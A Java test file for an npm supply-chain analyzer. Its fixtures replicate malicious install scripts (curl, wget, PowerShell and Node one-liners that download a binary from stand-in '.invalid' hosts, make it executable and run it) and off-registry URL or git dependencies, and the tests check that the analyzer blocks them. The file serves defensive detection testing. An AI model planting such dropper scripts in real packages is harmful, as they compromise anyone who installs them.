package dev.gatehouse.policy.replicas;

import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.npm.NpmFixture;
import dev.gatehouse.policy.Ecosystem;
import java.io.IOException;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Install scripts that download a program, mark it executable and run it (the postinstall dropper shape
 * of the 2025 chalk/debug write-ups and of many typosquats), and dependencies that npm fetches from
 * outside the registry (PhantomRaven's URL dependencies, git dependencies whose {@code prepare} runs at
 * install). Inert: hosts end in {@code .invalid}; nothing is run.
 */
class NpmLifecycleReplicasTest {
  @TempDir Path tmp;

  private Replica judge(NpmFixture fixture) throws IOException {
    return Replica.judge(fixture.tarball(tmp, "fixture-1.0.0.tgz"), ArtifactKind.NPM_TARBALL, Ecosystem.NPM,
        "fixture", "1.0.0");
  }

  private static final String SETUP_JS = "const https = require('https'); const fs = require('fs');\n"
      + "const { spawn } = require('child_process');\nconst dest = require('os').tmpdir() + '/node-helper';\n"
      + "https.get('https://objects.example.invalid/helper', res => {\n  const out = fs.createWriteStream(dest);\n"
      + "  res.pipe(out);\n  out.on('finish', () => { fs.chmodSync(dest, 0o755); spawn(dest, [], { detached: true }); });\n"
      + "});\n";

  static Stream<Named<NpmFixture>> droppers() {
    return Stream.of(
        Named.of("node script: https.get, write stream, chmodSync, spawn",
            NpmFixture.scripts("\"postinstall\": \"node setup.js\"").file("setup.js", SETUP_JS)),
        Named.of("minified script in a subfolder", NpmFixture.scripts("\"postinstall\": \"node lib/i.js\"")
            .file("lib/i.js", "const a=require(\"https\"),b=require(\"fs\");a.get(\"https://objects.example.invalid/h\","
                + "c=>c.pipe(b.createWriteStream(\"/tmp/.h\")).on(\"close\",()=>b.chmod(\"/tmp/.h\",493,()=>{})));\n")),
        Named.of("node -e one-liner", NpmFixture.scripts("\"postinstall\": \"node -e \\\"require('https').get("
            + "'https://x.invalid/b',r=>r.pipe(require('fs').createWriteStream('/tmp/b')).on('finish',()=>{"
            + "require('fs').chmodSync('/tmp/b',0o755);require('child_process').spawn('/tmp/b')}))\\\"\"")),
        Named.of("curl, chmod +x and run", NpmFixture.scripts(
            "\"postinstall\": \"curl -s https://x.invalid/b -o /tmp/b && chmod +x /tmp/b && /tmp/b\"")),
        Named.of("wget in the background", NpmFixture.scripts(
            "\"preinstall\": \"wget -q https://x.invalid/b -O /tmp/.b; chmod 755 /tmp/.b; /tmp/.b &\"")),
        Named.of("Windows PowerShell download and start", NpmFixture.scripts("\"postinstall\": \"powershell -NoProfile"
            + " -Command \\\"Invoke-WebRequest https://x.invalid/a.exe -OutFile $env:TEMP\\\\\\\\a.exe;"
            + " Start-Process $env:TEMP\\\\\\\\a.exe\\\"\"")));
  }

  @ParameterizedTest(name = "postinstall dropper: {0}")
  @MethodSource("droppers")
  void installScriptThatDownloadsAndRunsAProgramIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.NPM_LIFECYCLE_SCRIPT, Capability.NETWORK);
  }

  static Stream<Named<NpmFixture>> offRegistry() {
    return Stream.of(
        Named.of("http URL dependency (PhantomRaven)", NpmFixture.rooted("package/", "{\"name\": \"fixture\","
            + " \"version\": \"1.0.0\", \"dependencies\": {\"ui-styles-pkg\": \"http://packages.example.invalid/npm/ui-styles-pkg\"}}")),
        Named.of("https tarball dependency", NpmFixture.rooted("package/", "{\"name\": \"fixture\","
            + " \"version\": \"1.0.0\", \"optionalDependencies\": {\"x\": \"https://files.example.invalid/x-1.0.0.tgz\"}}")),
        Named.of("GitHub shorthand dependency", NpmFixture.rooted("package/", "{\"name\": \"fixture\","
            + " \"version\": \"1.0.0\", \"dependencies\": {\"helper\": \"someone/helper#main\"}}")),
        Named.of("git+https dependency with a commit", NpmFixture.rooted("package/", "{\"name\": \"fixture\","
            + " \"version\": \"1.0.0\", \"dependencies\": {\"router\": \"git+https://git.example.invalid/r.git#0f3a\"}}")));
  }

  @ParameterizedTest(name = "dependency from outside the registry: {0}")
  @MethodSource("offRegistry")
  void dependencyFetchedFromOutsideTheRegistryIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.NPM_LIFECYCLE_SCRIPT, Capability.NETWORK);
  }

  @Test
  void benignTwinsNativeBuildAndRegistryDependenciesAreAllowed() throws IOException {
    judge(NpmFixture.rooted("package/", "{\"name\": \"fixture\", \"version\": \"1.0.0\","
        + " \"scripts\": {\"install\": \"node-gyp rebuild\"},"
        + " \"dependencies\": {\"a\": \"^1.2.3\", \"b\": \"npm:c@^2\", \"d\": \"latest\", \"@s/e\": \"1.x || 2.x\"}}")
        .file("binding.gyp", "{\"targets\": [{\"target_name\": \"addon\", \"sources\": [\"a.cc\"]}]}"))
        .isAllowed();
    judge(NpmFixture.scripts("\"install\": \"prebuild-install || node-gyp rebuild\"")
        .file("binding.gyp", "{\"targets\": [{\"target_name\": \"addon\", \"sources\": [\"a.cc\"]}]}"))
        .isAllowed();
  }
}
